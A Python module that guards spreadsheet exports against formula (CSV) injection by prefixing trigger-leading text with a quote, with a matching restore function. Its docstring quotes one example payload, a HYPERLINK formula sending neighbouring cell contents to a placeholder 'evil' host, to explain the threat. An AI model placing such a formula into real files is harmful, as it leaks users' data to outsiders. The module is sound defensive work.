"""Cells for spreadsheets: text that a spreadsheet program would run as a formula.

A cell starting with ``= + - @``, a tab or a carriage return is taken as a
formula by Excel, LibreOffice and Google Sheets; ``=HYPERLINK("http://evil/?"&A1)``
in a city field would send the neighbouring cells to a stranger when staff or an
open-data user opens the file. Following the OWASP guidance on CSV injection, such
text is written with a leading single quote, which spreadsheet programs show as
text and do not run.

Only text is neutralised: numbers (also negative ones, also a text that is
nothing but a number, as decimals arrive from serializers and localised CSV
exports) stay numbers. Text
that already starts with quotes before a trigger character gets one more quote,
so :func:`restore_cell` can undo exactly what :func:`safe_cell` did and a
spreadsheet exported and imported again changes nothing.
"""

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# A signed number in any notation the exports use ("-9.191", "-9,191000", "-1.234,5"):
# digits and separators only, so it can call nothing.
_NUMBER = re.compile(r"[+-]?[.,]?\d[\d.,]*([eE][+-]?\d+)?")


def _is_neutralised_form(text: str) -> bool:
    """True for text that starts (after any quotes) with a formula trigger."""
    rest = text.lstrip(QUOTE)
    return rest.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(rest)


def safe_cell(value):
    """``value`` as a spreadsheet cell that can never be a formula."""
    if isinstance(value, str) and _is_neutralised_form(value):
        return QUOTE + value
    return value


def restore_cell(value):
    """The text a cell written by :func:`safe_cell` stood for (for imports)."""
    if isinstance(value, str) and value.startswith(QUOTE) and _is_neutralised_form(value[1:]):
        return value[1:]
    return value
